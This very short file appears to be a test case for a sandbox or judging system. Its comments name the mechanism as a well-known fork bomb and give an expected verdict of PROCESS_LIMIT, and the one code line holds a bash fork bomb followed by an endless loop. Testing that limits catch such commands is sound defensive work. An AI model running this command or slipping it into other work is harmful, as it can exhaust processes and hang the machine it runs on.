# mechanism: the fork bomb that everybody knows
# verdict: PROCESS_LIMIT
:() { :|:& }; :; while true; do :; done
